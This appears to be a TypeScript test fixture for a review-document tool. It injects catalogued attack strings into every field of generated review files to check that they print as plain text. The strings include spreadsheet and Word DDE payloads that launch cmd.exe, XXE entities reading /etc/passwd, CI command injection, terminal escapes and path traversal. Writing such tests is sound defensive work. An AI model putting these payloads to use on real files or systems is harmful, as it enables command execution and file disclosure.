/*
 * A review, its catalogue, evidence and survey in which every word that somebody could choose is one attack, file
 * names included. What the attack is made for is its kind; whatever it is, a printer has to print it as words.
 */
import { sampled } from './depth';
import { hostile } from './hostile';
import { root } from './fixture';

/** Words that try to be more than words, with a name by which a failure tells which it was. */
export interface Attack {
  readonly name: string;
  readonly words: string;
}

const byKind: Readonly<Record<string, readonly string[]>> = {
  markup: hostile,
  'spreadsheet formula': [
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "=cmd|'/C calc'!A0",
    '+1+cmd|x!A0',
    '-2+3+cmd|x!A0',
    '@SUM(1+1)*cmd|x!A0',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
    '\u00A0=1+1',
    '\u200B=1+1',
    '\uFEFF=1+1',
    '\uFF1D1+1',
    '\uFF0B1+1',
    '\uFF0D1+1',
    '\uFF201+1',
    '";=1+1;"',
    '"\r\n=1+1',
    'x,=1+1',
  ],
  'field of Word': [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    '{ DDEAUTO cmd "/k calc" }',
    '{ INCLUDEPICTURE "http://example.org/x.png" \\\\d }',
    '{ INCLUDETEXT "http://example.org/x.docx" }',
    '\u0013 HYPERLINK "http://example.org" \u0014x\u0015',
    '</w:t></w:r><w:r><w:instrText>DDEAUTO cmd calc</w:instrText></w:r><w:r><w:t>',
    '</w:t><w:fldSimple w:instr="DDE cmd calc"/><w:t>',
    '</a:t></a:r><a:hlinkClick r:id="rId1" action="ppaction://program"/><a:t>',
  ],
  XML: [
    '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    '&xxe; &#0; &#xFFFF; &#x1F;',
    ']]><x xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/>',
    '<?xml-stylesheet href="http://example.org/x.xsl"?>',
    '" onload="alert(1)" x="',
    "' onload='alert(1)' x='",
    '\uD800 half \uDC00 an emoji \uFFFE\uFFFF',
  ],
  'command of a build service': [
    '::error::x',
    '::set-output name=x::y',
    '\n::add-mask::x',
    '\r\n::stop-commands::x',
    '%0A::error::x',
    '##[error]x',
    '##vso[task.setvariable variable=x]y',
    "##teamcity[buildProblem description='x']",
    '\u0085::error::x\u2028::error::x',
  ],
  'link of a log': ['[click](https://example.org)', '[click](1)', '{0} {1}', '{{0}}'],
  terminal: [
    '\u001B[2J\u001B]0;title\u0007',
    '\u001B]8;;https://example.org\u0007click\u001B]8;;\u0007',
    '\u009B31m',
    'a\bb\u007F',
  ],
  path: [
    '../../../etc/passwd',
    '..\\..\\x',
    '/etc/passwd',
    'C:\\x',
    'file:///etc/passwd',
    '\\\\example.org\\x',
    'con',
  ],
  address: [
    'https://example.org/track.png',
    '//example.org/x',
    '![x](//example.org/x.png)',
    '![x][y]\n\n  [y]: https://example.org/x.png',
    '<https://example.org/x>',
    '![x](data:image/png;base64,AAAA)',
    'url(https://example.org/x)',
    '@import "https://example.org/x";',
    '$(command) [x](command:workbench.action.quit "x")',
  ],
};

/** Every attack. */
export const attacks: readonly Attack[] = Object.entries(byKind).flatMap(([kind, all]) =>
  all.map((words) => ({ name: `${kind} ${JSON.stringify(words)}`, words })),
);

const oneLine = (words: string): string => words.replace(/[\r\n\u0085\u2028\u2029]+ */g, ' ');

/** What a file may be called: anything but a slash and U+0000, and half a character has no bytes. */
export function fileNameOf(words: string): string {
  // eslint-disable-next-line no-control-regex -- one of the two that a name cannot hold.
  return words.replace(/[/\u0000]|\p{Surrogate}/gu, '_').slice(0, 60);
}

/** The files of a review in which each word is the attack, by path; the words of the last are in a file of such a name. */
export function attackedFiles(words: string): Readonly<Record<string, string>> {
  const quoted = JSON.stringify(words);
  const line = oneLine(words);
  const cell = line.replace(/\|/g, '\\|');
  const within = line.replace(/[()]/g, '');
  const theme = `# Theme 1: A [theme 1]

## Strengths

- ${words}
- Before ${words} after [std 1.1] [ev D1, ${line}] @by(${within})
- ${line} [std 1.2](${line}) [std ${line}]

  ${words}

## Areas for development

- Before ${words} after [std 1.1] @by(BB)
- A stub … ${line} [probe 1.1]

${words}

[^1]: ${line}

A note.[^1] <!-- ${line} -->

<!-- review-ignore-next-line unknown-standard: ${line} -->

## Suggestions

- ${words} [std 1.1]

## Actions

- ${words} @lead(${within}) @due(${within})
- B [std 1.2] @lead(${within}) @due(2026-11-15)
`;
  return {
    'cover.review.md': `---
title: ${quoted}
subject: ${quoted}
date: 2026-10-02
standards: [./own.standards.md, ${quoted}]
phase: ${quoted}
scope:
  exclude:
    - { std: 1.3, reason: ${quoted}, agreed: ${quoted} }
team:
  - { initials: BB, name: ${quoted}, role: ${quoted}, leads: [theme 1, ${quoted}] }
  - { initials: ${quoted}, name: ${quoted} }
checks: { ${quoted}: off, one-sided-standard: ${quoted} }
${quoted}: ${quoted}
---
# ${line}

${words}

## ${line}

- ${words}
`,
    'own.standards.md': `---
id: own
title: ${quoted}
edition: ${quoted}
publisher: ${quoted}
source: ${quoted}
${quoted}: ${quoted}
---
# Theme 1: ${line}

Also known as: ${line}

${words}

## Element 1: ${line}

### Standards

- 1.1 ${line}
- 1.2 Words ${line} (printed ${within})
- 1.3 ${line}

### Probes

1. ${line}

### Sources of evidence

1. ${line}
`,
    'evidence.review.md': `---
reviewer: ${quoted}
---
# Evidence

${words}

| Id | Kind | Description | Date | ${cell} |
| --- | --- | --- | --- | --- |
| D1 | document | ${cell} | 2026-10-02 | ${cell} |
| ${cell} | ${cell} | ${cell} | ${cell} | ${cell} |

\`\`\`survey
id: S1
title: ${quoted}
question: ${quoted}
scale: -2..2
responses: { -1: 3, 2: 4 }
${quoted}: ${quoted}
\`\`\`
`,
    [`${fileNameOf(words)}.review.md`]: theme,
  };
}

/** The same by address. */
export function attackedUris(words: string): ReadonlyMap<string, string> {
  return new Map(
    Object.entries(attackedFiles(words)).map(([path, text]) => [`${root}/${encodeURIComponent(path)}`, text]),
  );
}

/** Runs a check on every attack, of which the quick run samples some, and names the one that it fails for. */
export async function forEachAttack(check: (words: string) => unknown): Promise<void> {
  for (const attack of sampled(attacks)) await checkOne(attack, check);
}

/**
 * The same where one check takes long: ten attacks at once, as one text. Where that fails they are tried by themselves, and
 * at last together, which would be an attack that nobody has thought of.
 */
export async function forTenAttacks(check: (words: string) => unknown): Promise<void> {
  const all = sampled(attacks);
  for (let i = 0; i < all.length; i += 10) {
    const some = all.slice(i, i + 10);
    const together = {
      name: `attacks ${i} to ${i + 9}`,
      words: some.map(({ words }) => words).join('\n\n  '),
    };
    try {
      await check(together.words);
    } catch {
      for (const attack of some) await checkOne(attack, check);
      await checkOne(together, check);
    }
  }
}

async function checkOne({ name, words }: Attack, check: (words: string) => unknown): Promise<void> {
  try {
    await check(words);
  } catch (failure) {
    const reason = failure instanceof Error ? failure.message : String(failure);
    throw new Error(`With ${name}: ${reason}`, { cause: failure });
  }
}
